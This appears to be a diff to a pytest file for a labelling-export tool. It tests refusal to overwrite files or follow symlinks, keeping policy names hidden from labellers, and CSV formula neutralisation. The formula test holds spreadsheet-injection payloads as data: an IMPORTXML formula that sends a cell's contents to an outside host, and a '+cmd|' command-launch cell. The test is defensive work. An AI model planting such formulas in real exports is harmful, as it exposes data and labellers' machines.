@@ -53,9 +53,10 @@ def test_csv_export_has_text_and_metadata_and_no_judge_score(raised, tmp_path, c
         got = by[r["response_id"]]
         assert got["response"] == f"answer {r['response_id']}" and got["prompt"] == f"prompt of {r['prompt_id']}"
         assert float(got["inclusion_probability"]) == pytest.approx(r["inclusion_probability"])
-        assert got["request_id"] == m["request_id"] and "audit of 'unhelpful' failed" in got["reason"]
+        assert got["request_id"] == m["request_id"] and got["triggers"] == "audit_failed"
         assert got["oracle_label"] == ""
     assert "judge_score" not in rows[0]  # labellers stay blind to the score
+    assert "policy" not in rows[0] and "reason" not in rows[0]  # ... and to the policy
     assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", "jsonl",
                  "--out", str(tmp_path / "j.jsonl"), "--include-judge-score"]) == 0
     lines = [json.loads(x) for x in (tmp_path / "j.jsonl").read_text().splitlines()]
@@ -90,6 +91,79 @@ def test_export_names_a_missing_text_column_and_an_unknown_request(raised, tmp_p
     assert "no label request 'lr-20990101-000000000000'" in capsys.readouterr().err
 
 
+def test_export_never_replaces_a_file_nor_writes_through_a_symlink(raised, tmp_path, capsys):
+    """Issue 25: ``--out`` over a CSV holding filled labels made it a blank template, and a symlink was
+    followed.  Now: exit 2 naming the file unless ``--force``; a symlink is refused even with ``--force``;
+    the write goes through a temporary file in the folder (none left behind)."""
+    m, root = raised["request"], raised["root"]
+    base = ["requests", "export", m["request_id"], "--requests-uri", root, "--format", "csv"]
+    filled = tmp_path / "filled.csv"
+    filled.write_text("response_id,oracle_label\nr1,0.7\n")
+    assert main(base + ["--out", str(filled)]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and f"{filled}: exists already; give --force" in err
+    assert filled.read_text() == "response_id,oracle_label\nr1,0.7\n"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(victim)
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "nowhere.csv")
+    for path in (link, dangling):
+        for force in ([], ["--force"]):
+            assert main(base + ["--out", str(path)] + force) == 2
+            assert "symbolic link" in capsys.readouterr().err
+    assert victim.read_text() == "keep me" and not (tmp_path / "nowhere.csv").exists()
+    assert link.is_symlink() and dangling.is_symlink()
+    # label-studio writes two files: an existing labeling config also stops it before anything is written
+    (tmp_path / "ls.label_config.xml").write_text("<View/>")
+    assert main(base[:-1] + ["label-studio", "--out", str(tmp_path / "ls.json")]) == 2
+    assert not (tmp_path / "ls.json").exists() and "ls.label_config.xml" in capsys.readouterr().err
+    assert main(base + ["--out", str(filled), "--force"]) == 0
+    assert len(list(csv.DictReader(io.StringIO(filled.read_text())))) == m["n_labels"]
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []
+
+
+def test_csv_export_neutralises_formulas_and_the_filled_csv_imports_unchanged(tmp_path):
+    """Issue 25: formula cells (``=IMPORTXML(...)``, ``+cmd|...``) reached labellers' spreadsheets.  Now every
+    text cell starting with = + - @, tab or CR gets a leading ``'`` (OWASP); the filled CSV read back gives
+    the ids, texts and labels unchanged (the prefix is stripped exactly where it was added)."""
+    from flows.label_requests.answers import neutralize_csv_cell, restore_csv_cell
+    from flows.label_requests.exports import to_csv
+    from flows.pipelines.labels import read_label_file
+
+    texts = {"=r1": "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")", "+r2": "+cmd|' /C calc'!A0",
+             "-r3": "-2+3", "@r4": "@SUM(1+1)", "'=r5": "\tTAB", "r6": "\rCR", "r7": "'quoted", "r8": "plain"}
+    items = [{"item_id": rid, "kind": "response", "request_id": "lr-1", "reason": "=reason", "triggers": "t",
+              "policy": "p", "dt": "2025-03-01", "stratum": None, "selection_probability": 0.5,
+              "inclusion_probability": 0.25, "label_scale": [0.0, 1.0], "prompt": f"prompt {rid}",
+              "response": text} for rid, text in texts.items()]
+    data = to_csv(items)
+    rows = list(csv.DictReader(io.StringIO(data.decode())))
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for col, cell in row.items():
+            assert not cell.startswith(dangerous), (col, cell)  # safe to open in a spreadsheet
+    assert rows[0]["response"] == "'=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")" and rows[0]["reason"] == "'=reason"
+    assert [r["response_id"] for r in rows] == ["'=r1", "'+r2", "'-r3", "'@r4", "''=r5", "r6", "r7", "r8"]
+    assert rows[6]["response"] == "'quoted" and rows[7]["response"] == "plain"  # untouched: no formula start
+    # the labeller fills oracle_label in the spreadsheet and saves the CSV
+    labels = {rid: round(0.1 * (i + 1), 1) for i, rid in enumerate(texts)}
+    for row, rid in zip(rows, texts):
+        row["oracle_label"] = labels[rid]
+    path = tmp_path / "filled.csv"
+    with open(path, "w", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    table, _, _ = read_label_file(str(path))
+    assert table.column("response_id").to_pylist() == list(texts)
+    assert table.column("oracle_label").to_pylist() == [labels[r] for r in texts]
+    assert table.column("response").to_pylist() == list(texts.values())
+    for value in ["=1", "''=1", "'x", "x=", "", "-", "'"]:
+        assert restore_csv_cell(neutralize_csv_cell(value)) == value
+
+
 def test_list_and_status_count_partly_fulfilled_and_expired(raised, audit_case, capsys):
     m, root, st = raised["request"], raised["root"], raised["st"]
     _, table, result = audit_case
@@ -112,6 +186,80 @@ def test_list_and_status_count_partly_fulfilled_and_expired(raised, audit_case, 
     assert "reason [audit_failed]" in capsys.readouterr().out
     assert len(list_requests(st)) == 2
 
+
+
+def test_status_counts_a_merged_request_once(raised, tmp_path, capsys):
+    """A request merged from three reasons (two of them the same trigger) holds its labels once: the
+    status used to count it once per reason (3 x 12 = 36 labels for a request of 12)."""
+    from flows.label_requests.manifests import write_request
+
+    m = dict(raised["request"], request_id="lr-20990101-00000000abcd")
+    reason = m["reasons"][0]
+    m["reasons"] = [dict(reason), dict(reason, reason="a second audit"),
+                    dict(reason, trigger="thin_support", reason="thin support")]
+    root = tmp_path / "merged"
+    assert write_request(Storage.for_uri(str(root)), m)
+    assert main(["requests", "status", "--requests-uri", str(root), "--json"]) == 0
+    s = json.loads(capsys.readouterr().out)
+    assert s["requests"] == 1 and s["requested"] == 12
+    assert s["by_reasons"] == {"audit_failed+thin_support": {"requests": 1, "requested": 12, "received": 0}}
+    assert s["by_reason"]["audit_failed"] == {"requests": 1, "requested": 12, "received": 0}
+    assert main(["requests", "status", "--requests-uri", str(root)]) == 0
+    out = capsys.readouterr().out
+    assert "1 request(s), 0 of 12 label(s) received" in out
+    assert "audit_failed+thin_support" in out and "1 request(s), 0/12 label(s)" in out
+    assert "/24" not in out and "/36" not in out
+
+
+@pytest.fixture
+def blind_raised(audit_case, tmp_path):
+    """`raised` with opaque response ids (as a team's logs carry them): nothing in them names the policy."""
+    import hashlib
+
+    sim, table, result = audit_case
+    frame = table.to_pandas()
+    frame["response_id"] = [hashlib.sha256(r.encode()).hexdigest()[:16] for r in frame["response_id"]]
+    frame["prompt"] = "prompt of " + frame["prompt_id"]
+    frame["response"] = "answer number " + frame.index.astype(str)
+    frame["ts"] = [datetime.fromisoformat(d).replace(tzinfo=timezone.utc) + timedelta(hours=1) for d in frame["dt"]]
+    root = str(tmp_path / "blind")
+    st = Storage.for_uri(root)
+    write_logs(st, pa.Table.from_pandas(frame.drop(columns=["dt", "oracle_label", "label_probability"]),
+                                        preserve_index=False), basename="sim")
+    labelled = frame[frame["oracle_label"].notna()]
+    LabelStore(st).append(pa.Table.from_pandas(labelled[["response_id", "oracle_label", "label_probability"]],
+                                               preserve_index=False), "initial")
+    (m,) = raise_requests_for_run(None, root, "ev", "2025-03-01_2025-03-02", result, root, CFG)
+    return {"root": root, "request": m, "policies": sorted(set(frame["policy"]))}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl", "label-studio", "argilla"])
+def test_exports_are_blind_to_the_policy_and_answers_map_back_by_row_id(fmt, blind_raised, tmp_path, capsys):
+    """Labellers saw the policy (a `policy` column, `cje_policy`, Argilla metadata, and reasons such as
+    "audit of 'unhelpful' failed"): no policy name is in any export; the answers come back by row id."""
+    m, root = blind_raised["request"], blind_raised["root"]
+    assert {r["policy"] for r in m["rows"]} == {"unhelpful"}
+    out = tmp_path / f"export.{fmt}"
+    assert main(["requests", "export", m["request_id"], "--requests-uri", root, "--format", fmt,
+                 "--out", str(out)]) == 0
+    text = out.read_text()
+    for name in blind_raised["policies"]:
+        assert name not in text, f"{fmt} export shows policy {name!r}"
+    assert "policy" not in text
+    ids = {r["response_id"] for r in m["rows"]}
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(text)))
+        table = pa.table({"response_id": [r["response_id"] for r in rows], "oracle_label": [0.5] * len(rows)})
+        assert set(parse_table(table, str(out)).ids) == ids
+    elif fmt == "label-studio":
+        tasks = [dict(t, id=i, annotations=[{"id": i, "result": [{"from_name": "oracle_label",
+                                                                   "value": {"number": 3}}]}])
+                 for i, t in enumerate(json.loads(text))]
+        assert set(parse_label_studio(tasks, str(out)).ids) == ids
+    elif fmt == "argilla":
+        assert {r["id"] for r in json.loads(text)["records"]} == ids
+    else:
+        assert {json.loads(x)["response_id"] for x in text.splitlines()} == ids
 
 LS_EXPORT = [
     {"id": 1, "data": {"response_id": "r1"}, "annotations": [
